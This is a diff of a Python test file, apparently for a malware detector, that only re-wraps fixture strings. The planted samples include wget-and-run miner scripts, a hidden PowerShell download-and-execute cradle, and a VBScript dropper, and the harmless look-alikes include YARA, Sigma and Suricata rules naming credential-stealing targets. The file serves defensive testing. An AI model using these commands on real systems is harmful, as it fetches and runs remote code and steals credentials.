@@ -34,7 +34,8 @@ PLANTED: dict[str, list[bytes]] = {
     "activation_script": [b"@echo off\r\nrem HWID Activation\r\nrem Ohook Activation\r\n"],
     "patcher_program": [pe("keygen", "uFMOD", "Generate serial")],
     "loader_batch_checks_antivirus": [
-        b'Set Aa=x\r\ntasklist | findstr /I "wrsa.exe opssvc.exe" & findstr /I "avastui.exe avgui.exe" \r\ncmd /c copy /b a+b c\r\n'
+        b'Set Aa=x\r\ntasklist | findstr /I "wrsa.exe opssvc.exe" & findstr /I "avastui.exe avgui.exe" '
+        b"\r\ncmd /c copy /b a+b c\r\n"
     ],
     "loader_autoit": [bytes.fromhex("a3484bbe986c4aa9994c530a86d6487d") + b" VirtualAlloc CallWindowProc"],
     "miner_xmrig": [elf("xmrig", "xmrig 6", "XMRig/6.0", "donate-level", "randomx", "stratum+tcp://")],
@@ -43,7 +44,10 @@ PLANTED: dict[str, list[bytes]] = {
         b'{"url": "pool.example:3333", "user": "%s"}' % WALLET.encode(),
     ],
     "miner_script": [
-        b"#!/bin/sh\n# from hxxp://pool.example, 192.0.2[.]1 and 192.0.2[.]2\nwget http://192.0.2.1/x\nchmod +x x\n./x -u %s\n"
+        (
+            b"#!/bin/sh\n# from hxxp://pool.example, 192.0.2[.]1 and 192.0.2[.]2\nwget http://192.0.2.1/x\n"
+            b"chmod +x x\n./x -u %s\n"
+        )
         % WALLET.encode(),
         b"#!/bin/sh\nwget http://192.0.2.1/x\nchmod +x x\n./x -u %s\n" % WALLET.encode(),
     ],
@@ -65,7 +69,8 @@ PLANTED: dict[str, list[bytes]] = {
         b"powershell.exe -w hidden -nop IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
     ],
     "dropper_windows_script": [
-        b'Set s = CreateObject("WScript.Shell")\nSet x = CreateObject("MSXML2.XMLHTTP")\nSet d = CreateObject("ADODB.Stream")\nd.SaveToFile p\ns.Run p'
+        b'Set s = CreateObject("WScript.Shell")\nSet x = CreateObject("MSXML2.XMLHTTP")\n'
+        b'Set d = CreateObject("ADODB.Stream")\nd.SaveToFile p\ns.Run p'
     ],
     "dropper_shortcut": [LNK + "powershell -c iwr http://192.0.2.1/a".encode("utf-16-le")],
     "dropper_shell": [
@@ -97,22 +102,42 @@ HARMLESS = {
     "install script": b"#!/bin/sh\nset -e\ncurl -fsSLo tool https://tool.example/x\nchmod +x tool\n./tool\n",
     "backup script": b"#!/bin/sh\ncd /tmp || exit 1\ntar czf /backup/a.tgz /etc\n",
     "admin script": b"@echo off\r\ntasklist | findstr ekrn.exe\r\n",
-    "corporate activation": b"@echo off\r\ncscript slmgr.vbs /ipk AAAAA-AAAAA\r\ncscript slmgr.vbs /skms kms.unit.example\r\ncscript slmgr.vbs /ato\r\n",
+    "corporate activation": (
+        b"@echo off\r\ncscript slmgr.vbs /ipk AAAAA-AAAAA\r\ncscript slmgr.vbs /skms kms.unit.example\r\n"
+        b"cscript slmgr.vbs /ato\r\n"
+    ),
     "browser": pe("\\Login Data", "\\Web Data", "encrypted_key", "\\Local State", "logins.json"),
     "program": PE + b"hello",
     "elf": ELF + b"/proc/net/tcp /dev/watchdog",
     "settings": b'{"url": "https://unit.example", "user": "nam"}',
     "powershell": b"powershell -ExecutionPolicy Bypass -File update.ps1",
     "quoted test file": b"The file is:\n" + EICAR,
-    "list of indicators": b"Stealer: reads Login Data, Local State and leveldb, wallet files\nsends to hxxps://api.telegram[.]org/bot1\nand https://api.telegram.org/bot2\n",
+    "list of indicators": (
+        b"Stealer: reads Login Data, Local State and leveldb, wallet files\n"
+        b"sends to hxxps://api.telegram[.]org/bot1\nand https://api.telegram.org/bot2\n"
+    ),
     "list of digests": b"wallet, Login Data\n%s\nhttps://webhook.site/x\n"
     % b"\n".join(b"%064x" % n for n in range(1, 5)),
-    "report in prose": b"The script copies Login Data and the wallet, then posts to https://api.telegram.org/bot and ends.\n",
-    "yara rule": b'rule stealer {\n strings:\n  $a = "Login Data"\n  $b = "Local State"\n  $c = "https://api.telegram.org/bot"\n condition: all of them\n}\n',
-    "sigma rule": b"title: miner\nlogsource:\n product: linux\ndetection:\n s:\n  - wget \n  - pkill\n  - stratum+tcp://pool.example:3333\n  - curl \n",
-    "suricata rule": b'alert tcp any any -> any any (msg:"wget curl pkill stratum+tcp://pool.example:3333"; sid:1; rev:1;)\n',
+    "report in prose": (
+        b"The script copies Login Data and the wallet, then posts to https://api.telegram.org/bot and ends.\n"
+    ),
+    "yara rule": (
+        b'rule stealer {\n strings:\n  $a = "Login Data"\n  $b = "Local State"\n'
+        b'  $c = "https://api.telegram.org/bot"\n condition: all of them\n}\n'
+    ),
+    "sigma rule": (
+        b"title: miner\nlogsource:\n product: linux\ndetection:\n s:\n  - wget \n  - pkill\n"
+        b"  - stratum+tcp://pool.example:3333\n  - curl \n"
+    ),
+    "suricata rule": (
+        b'alert tcp any any -> any any (msg:"wget curl pkill stratum+tcp://pool.example:3333"; sid:1; '
+        b"rev:1;)\n"
+    ),
     "wallets of miners": b"Miner. Wallet: %s\nIt uses wget and curl, chmod +x, pkill.\n" % WALLET.encode(),
-    "stix bundle": b'{"type": "bundle", "objects": [{"type": "indicator", "pattern": "Login Data Local State https://api.telegram.org/bot1"}]}',
+    "stix bundle": (
+        b'{"type": "bundle", "objects": [{"type": "indicator", "pattern": "Login Data Local State '
+        b'https://api.telegram.org/bot1"}]}'
+    ),
 }
 
 
